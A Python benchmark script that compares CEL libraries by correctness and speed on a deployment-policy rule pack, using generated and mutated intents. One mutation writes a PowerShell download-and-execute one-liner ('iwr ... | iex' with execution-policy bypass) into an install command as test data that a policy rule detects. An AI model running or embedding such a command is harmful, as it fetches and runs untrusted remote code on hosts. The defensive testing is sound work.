"""Which CEL library, measured on EUCORA's own rules and data: correctness first, then speed.

Candidates: cel-expr-python (module ``cel_expr_python``, Google's wrapper of cel-cpp, what
``bot.core.cel`` uses and the reference here), common-expression-language (module ``cel``, the
Rust cel-interpreter crate via PyO3) and cel-python (module ``celpy``, pure Python, in both of its
runners). A library that is not installed is reported, not fatal.

1. Compile every ``when`` of the default policy pack (41 rules) with each library; record per rule
   whether it compiled. The rules are not rewritten; libraries get the extensions they offer
   (common-expression-language: ``cel.stdlib`` strings, Python callbacks; celpy has none).
2. Build the variables of generated intents (``tests/support/corpus.py``) as ``judge_intent`` does
   (``intent``, ``base``, ``facts``, ``config``, ``now``) on three corpora: *plain* (as generated,
   change ADDED, base null, config {}), *mutated* (rules fire: every other intent unsigned, admin,
   3 high vulnerabilities, 9000 devices, plus one of ten rarer mutations each) and *modified*
   (change MODIFIED against the plain intent as base, so the rules reading ``base`` run).
   Evaluate every compiled rule on every intent and compare each result with cel-expr-python's;
   an exception and an error value are both "error".
3. Time compilation, and per intent the context build plus every rule (best of --repeat).
4. Check the CEL features the rules rely on with tiny expressions.

Usage: .venv/bin/python benchmarks/cel.py [--intents 300] [--celpy-intents 60] [--repeat 3]
Runs offline; 65-80 s on 2 cores. Results: docs/cel-comparison.md.
"""

from __future__ import annotations

import argparse
import copy
import gc
import logging
import re
import sys
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import datetime
from importlib import metadata
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
HERE = Path(__file__).resolve().parent
# This file is cel.py: its folder must not be on the path, or `import cel` imports it.
sys.path[:] = [p for p in sys.path if Path(p or ".").resolve() != HERE]
sys.path.insert(0, str(ROOT))

from bot.catalog import build_document_validator, build_policy_pack, cel_environment
from bot.core.changes import ChangeKind
from bot.core.check import judge_intent
from bot.core.documents import DocumentKind
from bot.core.facts import FactInputs, derive_facts
from tests.support.corpus import generate_intent_text

NOW = datetime.fromisoformat("2027-02-17T10:00:00+01:00")
FREEZE_CONFIG = {
    "packageHosts": ["*.contoso.com"],
    "freezeWindows": [
        {"name": "february", "start": "2027-02-15T00:00:00Z", "end": "2027-02-20T00:00:00Z"}
    ],
}
REFERENCE = "cel-expr-python"

# --- outcomes ---------------------------------------------------------------------------------

Verdict = tuple[str, str]  # ("true" | "false" | "error" | "value" | "compile-error", detail)


def verdict(value: Any) -> Verdict:
    """A plain Python result as a verdict (a rule must give a bool)."""
    if isinstance(value, bool):
        return ("true" if value else "false", "")
    return ("value", repr(value)[:60])


_CLASS = re.compile(r"<class '(?:[\w.]+\.)?(\w+)'>")


def failure(error: BaseException) -> Verdict:
    """An exception (or celpy's CELEvalError value) as a short error verdict."""
    args = getattr(error, "args", ())
    text = args[0] if args and isinstance(args[0], str) else str(error)
    text = text.split(" (in activation", 1)[0].strip()
    text = text.splitlines()[0] if text else ""
    text = _CLASS.sub(r"\1", text).replace("Token('RULE', 'relation_ne')", "!=")
    return ("error", f"{type(error).__name__}: {text}"[:120])


# --- the libraries ----------------------------------------------------------------------------


@dataclass
class Backend:
    """One library (or one mode of it), behind the same calls."""

    name: str
    package: str
    compile: Callable[[str], Any]
    context: Callable[[dict[str, Any]], Any]
    run: Callable[[Any, Any], Verdict]
    note: str = ""
    features: bool = True  # False for a second mode of a library already in the feature table


@dataclass
class Missing:
    name: str
    module: str
    reason: str


def cel_expr_python() -> list[Backend]:
    from cel_expr_python import cel  # noqa: PLC0415 - optional like the others

    env = cel_environment()  # bot.core.cel: declared variables, ext_strings, type-checked

    def run(program: Any, activation: Any) -> Verdict:
        outcome = env.evaluate(program, activation)
        if outcome.error is not None:
            return ("error", outcome.error[:120])
        return verdict(outcome.value)

    def run_raw(program: Any, activation: Any) -> Verdict:
        value = program.expression.eval(activation)
        kind = value.type()
        if kind == cel.Type.BOOL:
            return verdict(value.value())
        if kind == cel.Type.ERROR:
            return ("error", str(value.value())[:120])
        return verdict(value.plain_value())

    package = "cel-expr-python"
    return [
        Backend(
            REFERENCE,
            package,
            env.compile,
            env.activation,
            run,
            "`bot.core.cel` as shipped: type-checked compile, one Activation per intent, "
            "`CelEnvironment.evaluate` (type check of the result, `plain_value`, `to_python`).",
        ),
        Backend(
            f"{REFERENCE} (raw eval)",
            package,
            env.compile,
            env.activation,
            run_raw,
            "Same programs and Activation; `expression.eval` and a BOOL/ERROR type test only.",
            features=False,
        ),
    ]


def common_expression_language() -> list[Backend]:
    import cel  # noqa: PLC0415 - optional
    from cel.stdlib import add_stdlib_to_context  # noqa: PLC0415

    if not hasattr(cel, "Context") or not hasattr(cel, "compile"):
        raise ImportError("module `cel` belongs to another package (python-cel or cel-bind?)")

    shared = cel.Context()
    add_stdlib_to_context(shared, ["strings"])

    def reuse(variables: dict[str, Any]) -> Any:
        shared.update(variables)  # every variable is replaced: nothing leaks between intents
        return shared

    def fresh(variables: dict[str, Any]) -> Any:
        ctx = cel.Context()
        add_stdlib_to_context(ctx, ["strings"])
        for name, value in variables.items():
            ctx.add_variable(name, value)
        return ctx

    def run(program: Any, ctx: Any) -> Verdict:
        try:
            return verdict(program.execute(ctx))
        except BaseException as error:  # pyo3 panics are BaseExceptions
            if isinstance(error, KeyboardInterrupt | SystemExit):
                raise
            return failure(error)

    package = "common-expression-language"
    return [
        Backend(
            package,
            package,
            cel.compile,
            reuse,
            run,
            "Parse-only compile. One `cel.Context` with the `cel.stdlib` strings functions (Python "
            "callbacks) registered once; `update(variables)` per intent (not thread-safe).",
        ),
        Backend(
            f"{package} (fresh Context)",
            package,
            cel.compile,
            fresh,
            run,
            "A new `cel.Context` per intent, registering the stdlib strings functions each time.",
            features=False,
        ),
    ]


def cel_python() -> list[Backend]:
    import celpy  # noqa: PLC0415 - optional
    from celpy.celtypes import BoolType, TimestampType  # noqa: PLC0415

    logging.getLogger("celpy").setLevel(logging.CRITICAL)  # it logs every internal error
    logging.getLogger("Evaluator").setLevel(logging.CRITICAL)

    def context(variables: dict[str, Any]) -> Any:
        out = {k: celpy.json_to_cel(v) for k, v in variables.items() if k != "now"}
        out["now"] = TimestampType(variables["now"])
        return out

    def run(program: Any, activation: Any) -> Verdict:
        try:
            value = program.evaluate(activation)
        except Exception as error:  # noqa: BLE001 - any exception is an error outcome
            return failure(error)
        if isinstance(value, celpy.CELEvalError):
            return failure(value)
        return verdict(bool(value) if isinstance(value, BoolType) else value)

    out = []
    for runner in (celpy.InterpretedRunner, celpy.CompiledRunner):
        env = celpy.Environment(runner_class=runner)
        out.append(
            Backend(
                f"cel-python ({runner.__name__})",
                "cel-python",
                lambda source, env=env: env.program(env.compile(source)),
                context,
                run,
                f"Parse-only compile; `json_to_cel` per intent; {runner.__name__}; `now` as a "
                "`TimestampType`; no strings extension (the library has none).",
            )
        )
    return out


CANDIDATES: list[tuple[str, str, str, Callable[[], list[Backend]]]] = [
    (REFERENCE, "cel_expr_python", "cel-expr-python", cel_expr_python),
    ("common-expression-language", "cel", "common-expression-language", common_expression_language),
    ("cel-python", "celpy", "cel-python", cel_python),
]


def load_backends() -> tuple[list[Backend], list[Missing]]:
    found, missing = [], []
    for name, module, package, factory in CANDIDATES:
        try:
            found.extend(factory())
        except ImportError as error:
            reason = f"not installed: `.venv/bin/pip install {package}`"
            if "another package" in str(error):
                reason = str(error)
            missing.append(Missing(name, module, reason))
    return found, missing


# --- the data ---------------------------------------------------------------------------------


@dataclass
class Case:
    """The variables of one intent, as judge_intent builds them, and the reference tier."""

    index: int
    variables: dict[str, Any]
    reference: dict[str, Verdict] = field(default_factory=dict)


def _classify(m: dict[str, Any], i: int) -> None:
    value = "Confidential" if i % 20 == 0 else "RESTRICTED"  # lowerAscii
    m["metadata"]["labels"]["data-classification"] = value


def _remote_code(m: dict[str, Any], _: int) -> None:  # matches, (?i), \b
    m["package"]["installCommand"] = 'powershell -ep bypass -c "iwr https://x.test/a.ps1 | iex"'


def _foreign_host(m: dict[str, Any], _: int) -> None:
    m["package"]["uninstallCommand"] = "msiexec /x {0000-1111} /qn"
    m["package"]["url"] = "https://downloads.example.net/app/installer"


def _no_rollback(m: dict[str, Any], i: int) -> None:
    if i % 4:
        m["rollback"] = {"strategy": "none"}
    else:
        del m["rollback"]


def _no_evidence(m: dict[str, Any], _: int) -> None:
    del m["evidence"]["sbom"], m["evidence"]["testReport"]


def _placeholder_hash(m: dict[str, Any], _: int) -> None:
    m["package"]["sha256"] = "0" * 64


def _uninstall_everywhere(m: dict[str, Any], _: int) -> None:
    m["rings"][-1]["assignment"] = "uninstall"
    m["rings"][1]["target"] = "All"


def _vulns_unreported(m: dict[str, Any], _: int) -> None:
    del m["evidence"]["vulnerabilities"]["critical"]
    m["evidence"]["vulnerabilities"]["high"] = 0


def _no_signer_no_soak(m: dict[str, Any], _: int) -> None:
    m["package"]["signer"] = {}
    del m["rings"][0]["gate"]["soak"]


RARE = (
    _classify,
    _classify,
    _remote_code,
    _foreign_host,
    _no_rollback,
    _no_evidence,
    _placeholder_hash,
    _uninstall_everywhere,
    _vulns_unreported,
    _no_signer_no_soak,
)


def mutate(intent: dict[str, Any], i: int) -> dict[str, Any]:
    """Make rules fire: the four common mutations on odd intents, one rarer one on each."""
    m = copy.deepcopy(intent)
    if i % 2:
        m["package"]["signed"] = False
        m["package"]["requiresAdmin"] = True
        m["evidence"]["vulnerabilities"]["high"] = 3
        m["rings"][-1]["devices"] = 9000
    RARE[i % len(RARE)](m, i)
    if i % 7 == 0:  # with the emergency label: an empty reason (trim) or a real one
        m["change"]["emergencyReason"] = "   " if i % 14 == 0 else "zero-day in the wild"
    return m


def modify(base: dict[str, Any], i: int) -> tuple[dict[str, Any], dict[str, Any]]:
    """A MODIFIED change: head differs from base in what the base-reading rules look at."""
    base = copy.deepcopy(base)
    head = mutate(base, i)
    kind = i % 6
    major = int(base["app"]["version"].split(".")[0])
    if kind == 0:
        head["app"]["version"] = f"{max(major - 1, 0)}.0.0.0"
    elif kind == 1:
        head["package"]["sha256"] = "f" * 63 + "0"
    elif kind == 2:
        base["package"]["signer"]["thumbprint"] = "ab12cd34ef" * 4
        head["package"].setdefault("signer", {})["thumbprint"] = (
            "AB12CD34EF" * 4 if i % 12 == 2 else "99" * 20
        )
    elif kind == 3:
        publisher = base["app"]["publisher"]
        head["app"]["publisher"] = publisher.upper() if i % 12 == 3 else "Other Vendor Inc"
    elif kind == 4:
        head["app"]["version"] = "latest" if i % 12 == 4 else f"{major + 1}.0.0.0"
    else:
        for ring in head["rings"]:
            ring["devices"] = ring["devices"] * 10
    return base, head


def make_case(index: int, intent: dict[str, Any], base: dict[str, Any] | None, **kw: Any) -> Case:
    """Variables exactly as judge_intent passes them (facts with the tier of pass 1)."""
    config = kw.get("config", {})
    inputs = FactInputs(
        change=ChangeKind.MODIFIED if base is not None else ChangeKind.ADDED,
        path=f"intents/app-{index:05d}.yaml",
        intent=intent,
        base=base,
        config=config,
        now=NOW,
        labels=kw.get("labels", ()),
    )
    judgement = judge_intent(inputs, PACK, cel_environment(), name=f"app-{index}")
    variables = {
        "intent": intent,
        "base": base,
        "facts": judgement.facts,  # pass 1 facts plus the tier, as the tier rules see them
        "config": config,
        "now": NOW,
    }
    case = Case(index, variables)
    case.reference = {
        r.rule.id: ("error", "") if r.error is not None else ("true" if r.matched else "false", "")
        for r in judgement.results
    }
    return case


def corpora(count: int) -> dict[str, list[Case]]:
    validator = build_document_validator()
    plain_intents = []
    for i in range(count):
        doc = validator.validate(
            generate_intent_text(i).encode(), f"intents/app-{i:05d}.yaml", DocumentKind.INTENT
        )
        assert doc.ok, doc.findings
        plain_intents.append(doc.data)
    plain = [make_case(i, intent, None) for i, intent in enumerate(plain_intents)]
    mutated = [
        make_case(
            i,
            mutate(intent, i),
            None,
            config=FREEZE_CONFIG if i % 5 == 0 else {},
            labels=("eucora:emergency",) if i % 7 == 0 else (),
        )
        for i, intent in enumerate(plain_intents)
    ]
    modified = []
    for i, intent in enumerate(plain_intents):
        base, head = modify(intent, i)
        modified.append(make_case(i, head, base))
    return {"plain": plain, "mutated": mutated, "modified": modified}


# --- measuring --------------------------------------------------------------------------------


def best(repeat: int, work: Callable[[], object]) -> float:
    times = []
    for _ in range(repeat):
        gc.collect()
        started = time.perf_counter()
        work()
        times.append(time.perf_counter() - started)
    return min(times)


@dataclass
class Compiled:
    programs: dict[str, Any]
    failures: dict[str, str]
    seconds: float


def compile_rules(backend: Backend, rules: list[tuple[str, str]], repeat: int) -> Compiled:
    programs: dict[str, Any] = {}
    failures: dict[str, str] = {}

    def work() -> None:
        programs.clear()
        failures.clear()
        for rule_id, source in rules:
            try:
                programs[rule_id] = backend.compile(source)
            except Exception as error:  # noqa: BLE001 - a failure to compile is a result
                failures[rule_id] = failure(error)[1]

    seconds = best(repeat, work)
    return Compiled(dict(programs), dict(failures), seconds)


def evaluate(backend: Backend, compiled: Compiled, case: Case) -> dict[str, Verdict]:
    ctx = backend.context(case.variables)
    out = {rule_id: backend.run(p, ctx) for rule_id, p in compiled.programs.items()}
    for rule_id, reason in compiled.failures.items():
        out[rule_id] = ("compile-error", reason)
    return out


@dataclass
class Agreement:
    same: int = 0
    total: int = 0
    reference_kinds: Counter[str] = field(default_factory=Counter)
    differences: Counter[tuple[str, str, str]] = field(default_factory=Counter)

    @property
    def percent(self) -> float:
        return 100.0 * self.same / self.total if self.total else 0.0


def reason_for(ref: Verdict, got: Verdict) -> str:
    if got[0] in {"error", "compile-error"}:
        return f"{got[0]}: {got[1]} (reference: {ref[0]})"
    if ref[0] == "error":
        return f"gives {got[0]}, reference: error {ref[1]}"
    return f"gives {got[0]} {got[1]}, reference: {ref[0]}".replace("  ", " ")


def compare(backend: Backend, compiled: Compiled, cases: list[Case], refs: list[dict]) -> Agreement:
    result = Agreement()
    for case, ref in zip(cases, refs, strict=True):
        got = evaluate(backend, compiled, case)
        for rule_id, expected in ref.items():
            result.total += 1
            result.reference_kinds[expected[0]] += 1
            if got[rule_id][0] == expected[0]:
                result.same += 1
            else:
                result.differences[(rule_id, expected[0], reason_for(expected, got[rule_id]))] += 1
    return result


@dataclass
class Timing:
    intents: int
    per_intent_us: float
    eval_only_us: float
    slowest: list[tuple[str, float]]


WARM = "size(intent) + size(facts) + size(config) >= 0"


def time_backend(backend: Backend, compiled: Compiled, cases: list[Case], repeat: int) -> Timing:
    """Per intent: context + every rule; the rules alone; the slowest rules.

    "The rules alone" are timed on a context already used once by WARM, because some libraries
    convert the variables lazily, on first use.
    """
    programs = list(compiled.programs.values())
    run, context = backend.run, backend.context
    warm = backend.compile(WARM)

    def total() -> None:
        for case in cases:
            ctx = context(case.variables)
            for program in programs:
                run(program, ctx)

    per_intent = best(repeat, total)
    rules_only = []
    for _ in range(repeat):
        gc.collect()
        spent = 0.0
        for case in cases:
            ctx = context(case.variables)
            run(warm, ctx)
            started = time.perf_counter()
            for program in programs:
                run(program, ctx)
            spent += time.perf_counter() - started
        rules_only.append(spent)
    per_rule = []
    for rule_id, program in compiled.programs.items():
        spent = 0.0
        for case in cases:
            ctx = context(case.variables)
            run(warm, ctx)
            started = time.perf_counter()
            run(program, ctx)
            spent += time.perf_counter() - started
        per_rule.append((rule_id, spent / len(cases) * 1e6))
    per_rule.sort(key=lambda item: -item[1])
    return Timing(
        len(cases), per_intent / len(cases) * 1e6, min(rules_only) / len(cases) * 1e6, per_rule[:3]
    )


# --- features ---------------------------------------------------------------------------------

FEATURES: list[tuple[str, str, str]] = [
    ("has() on a nested map, present", "has(intent.package.signer.subject)", "true"),
    ("has() on a nested map, absent", "!has(intent.package.signer.teamId)", "true"),
    ("`base != null` (dyn map vs null), then has()", "base != null && has(base.package)", "true"),
    ("exists", "intent.rings.exists(r, r.name == 'pilot')", "true"),
    ("all", "intent.rings.all(r, r.devices > 0)", "true"),
    ("map + list index", "intent.rings.map(r, r.name)[0] == 'lab'", "true"),
    (
        "filter + size",
        "size(intent.rings.filter(r, r.assignment == 'required')) == size(intent.rings) - 1",
        "true",
    ),
    ("map index m['k']", "intent.metadata.labels['tier'] == 'standard'", "true"),
    ("list index l[1].f", "intent.rings[1].name == 'pilot'", "true"),
    ("`in` map / list", "'tier' in intent.metadata.labels && facts.first_ring in ['lab']", "true"),
    ("startsWith", "intent.package.url.startsWith('https://')", "true"),
    ("endsWith", "intent.package.url.endsWith('/installer')", "true"),
    ("contains", "intent.package.signer.subject.contains('Example Software')", "true"),
    ("matches (RE2)", "intent.package.sha256.matches('^[0-9a-f]{64}$')", "true"),
    ("matches (?i) and \\b", "'iwr x | IEX'.matches(r'(?i)\\biex\\b')", "true"),
    ("lowerAscii", "'ConFidential'.lowerAscii() == 'confidential'", "true"),
    ("upperAscii", "'ab12'.upperAscii() == 'AB12'", "true"),
    ("trim", "'  x '.trim() == 'x'", "true"),
    ("join (used in messages)", "['a', 'b'].join(', ') == 'a, b'", "true"),
    ("size(string) counts code points", "size('héllo') == 5", "true"),
    (
        "size(list), size(map)",
        "size(intent.rings) >= 2 && size(intent.metadata.labels) == 2",
        "true",
    ),
    ("timestamp() < now", "timestamp(intent.change.window.start) < now", "true"),
    (
        "now - timestamp > duration",
        "now - timestamp(intent.change.window.start) > duration('720h')",
        "true",
    ),
    (
        "timestamp + duration ==",
        (
            "timestamp(intent.change.window.start) + duration('10h') == "
            "timestamp(intent.change.window.end)"
        ),
        "true",
    ),
    ("offset timestamp == now", "timestamp('2027-02-17T10:00:00+01:00') == now", "true"),
    ("now.getDayOfWeek()", "now.getDayOfWeek() == 3", "true"),
    ("missing key is an error", "intent.package.nothing == 1", "error"),
    ("error absorption `err || true`", "intent.package.nothing == 1 || true", "true"),
    ("error absorption `err && false`", "intent.package.nothing == 1 && false", "false"),
    ("int64 overflow (literal)", "9223372036854775807 + 1 > 0", "error"),
    ("int64 overflow (runtime)", "facts.total_devices * 9223372036854775807 > 0", "error"),
    ("unknown function caught at compile", "intent.package.url.fooBar()", "compile-error"),
]


def check_features(backend: Backend, variables: dict[str, Any]) -> list[tuple[bool, str]]:
    ctx = backend.context(variables)
    out = []
    for _, source, expected in FEATURES:
        try:
            program = backend.compile(source)
        except Exception as error:  # noqa: BLE001 - a failure to compile is a result
            got: Verdict = ("compile-error", failure(error)[1])
        else:
            got = backend.run(program, ctx)
        out.append((got[0] == expected, f"{got[0]} {got[1]}".strip()))
    return out


# --- report -----------------------------------------------------------------------------------


def table(header: list[str], rows: list[list[str]]) -> str:
    lines = ["| " + " | ".join(header) + " |", "|" + "---|" * len(header)]
    lines += ["| " + " | ".join(cell.replace("|", "\\|") for cell in row) + " |" for row in rows]
    return "\n".join(lines)


PACK = build_policy_pack()


def version(package: str) -> str:
    try:
        return metadata.version(package)
    except metadata.PackageNotFoundError:
        return "?"


def print_summary(rows: list[list[str]], repeat: int, facts_us: float) -> None:
    print(f"## Summary (times: best of {repeat} repeats, µs per intent)\n")
    header = [
        "library",
        "compiled",
        "compile all rules (ms)",
        "ctx + all rules, plain",
        "rules only",
        "ctx build",
        "ctx + all rules, mutated",
        "intents timed",
        "agree plain %",
        "agree mutated %",
        "agree modified %",
        "agree all %",
    ]
    print(table(header, rows))
    print(
        f"\n`ctx build` = (ctx + all rules) - (rules only, timed on a context already used once by "
        f"`{WARM}`, which forces lazy conversions). Library-independent, not counted: "
        f"derive_facts {facts_us:,.0f} µs/intent."
    )


def print_details(backend: Backend, compiled: Compiled, agreement: dict[str, Agreement]) -> None:
    print(f"### {backend.name} {version(backend.package)}\n\n{backend.note}\n")
    failures = Counter(compiled.failures.values())
    for reason, count in failures.items():
        which = [r for r, why in compiled.failures.items() if why == reason]
        names = "all rules" if len(which) == len(compiled.failures) + len(compiled.programs) else ""
        print(f"- does not compile ({count}): {names or ', '.join(which)}: {reason}")
    merged: dict[tuple[str, str], Counter[str]] = {}
    for corpus, result in agreement.items():
        for (rule_id, ref_kind, reason), count in result.differences.items():
            if reason.startswith("compile-error"):
                continue
            got = reason.split(" (reference:", 1)[0].split(", reference:", 1)[0]
            merged.setdefault((rule_id, got), Counter())[f"{corpus} ref={ref_kind}"] += count
    for (rule_id, got), where in sorted(merged.items()):
        counts = ", ".join(f"{k} x{n}" for k, n in sorted(where.items()))
        print(f"- `{rule_id}`: {got} — {counts}")
    if not merged and not failures:
        print("- no disagreement")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--intents", type=int, default=300)
    parser.add_argument("--celpy-intents", type=int, default=60)
    parser.add_argument("--repeat", type=int, default=3)
    args = parser.parse_args()
    started = time.perf_counter()
    rules = [(rule.id, rule.program.source) for rule in PACK.rules]
    backends, missing = load_backends()
    if not backends or backends[0].name != REFERENCE:
        print(
            f"{REFERENCE} (the reference) is not installed: .venv/bin/pip install cel-expr-python"
        )
        sys.exit(1)
    print(f"# CEL libraries on EUCORA's default pack ({len(rules)} rules)\n")
    print(f"Python {sys.version.split()[0]}; ", end="")
    print(", ".join(f"{b.name} {version(b.package)}" for b in backends), end="")
    print(f"; lark {version('lark')}.")
    for item in missing:
        print(f"- **{item.name}** (module `{item.module}`): {item.reason}")
    cases = corpora(args.intents)
    plain_inputs = [
        FactInputs(
            change=ChangeKind.ADDED,
            path="intents/x.yaml",
            intent=c.variables["intent"],
            base=None,
            config={},
            now=NOW,
        )
        for c in cases["plain"]
    ]
    facts_us = best(args.repeat, lambda: [derive_facts(i) for i in plain_inputs])
    facts_us = facts_us / len(plain_inputs) * 1e6

    compiled = {b.name: compile_rules(b, rules, args.repeat) for b in backends}
    reference = backends[0]
    refs = {
        name: [evaluate(reference, compiled[REFERENCE], c) for c in group]
        for name, group in cases.items()
    }
    harness = sum(
        r[rule_id][0] != c.reference[rule_id][0]
        for name, group in cases.items()
        for c, r in zip(group, refs[name], strict=True)
        for rule_id in c.reference
    )
    kinds = {name: Counter(v[0] for r in rs for v in r.values()) for name, rs in refs.items()}
    counts = "; ".join(
        f"{name}: {k['true']} true / {k['false']} false / {k['error']} error"
        for name, k in kinds.items()
    )
    print(
        f"\nCorpora: {args.intents} generated intents each x {len(rules)} rules. Reference "
        f"outcomes: {counts}. This harness vs judge_intent's own results: {harness} differences.\n"
    )

    plain_one = cases["plain"][1].variables["intent"]
    feature_case = make_case(1, plain_one, copy.deepcopy(plain_one))  # base: a map, not null
    rows, details, features = [], [], {}
    for backend in backends:
        done = compiled[backend.name]
        n = args.intents
        if backend.name.startswith("cel-python"):
            n = min(args.celpy_intents, args.intents)
        agreement = {
            name: compare(backend, done, group, refs[name]) for name, group in cases.items()
        }
        timing_cells = ["-"] * 5
        timing = None
        if done.programs:
            timing = time_backend(backend, done, cases["plain"][:n], args.repeat)
            fired = time_backend(backend, done, cases["mutated"][:n], args.repeat)
            timing_cells = [
                f"{timing.per_intent_us:,.0f}",
                f"{timing.eval_only_us:,.0f}",
                (
                    f"{timing.per_intent_us - timing.eval_only_us:,.0f}"
                    if timing.per_intent_us > timing.eval_only_us
                    else "~0 (noise)"
                ),
                f"{fired.per_intent_us:,.0f}",
                f"{n}" + (" (scaled)" if n < args.intents else ""),
            ]
            if backend.features:
                features[backend.name] = check_features(backend, feature_case.variables)
        same = sum(a.same for a in agreement.values())
        total = sum(a.total for a in agreement.values())
        rows.append(
            [
                f"**{backend.name}**",
                f"{len(done.programs)}/{len(rules)}",
                f"{done.seconds * 1e3:.1f}",
                *timing_cells,
                *(f"{a.percent:.2f}" for a in agreement.values()),
                f"**{100.0 * same / total:.2f}**",
            ]
        )
        details.append((backend, done, agreement, timing))

    print_summary(rows, args.repeat, facts_us)
    print("\n## Compile failures, disagreements with cel-expr-python, slowest rules\n")
    for backend, done, agreement, timing in details:
        print_details(backend, done, agreement)
        if timing is not None:
            slow = ", ".join(f"`{r}` {us:,.1f}" for r, us in timing.slowest)
            print(f"- slowest rules (µs per evaluation on a fresh context, plain corpus): {slow}")
        print()

    print("## Features\n")
    names = list(features)
    feature_rows = [
        [label, f"`{source}`", expected]
        + [("✓" if features[n][i][0] else "✗ " + features[n][i][1][:70]) for n in names]
        for i, (label, source, expected) in enumerate(FEATURES)
    ]
    print(table(["feature", "expression", "expected", *names], feature_rows))
    print(f"\nTotal run time {time.perf_counter() - started:.0f} s.")


if __name__ == "__main__":
    main()
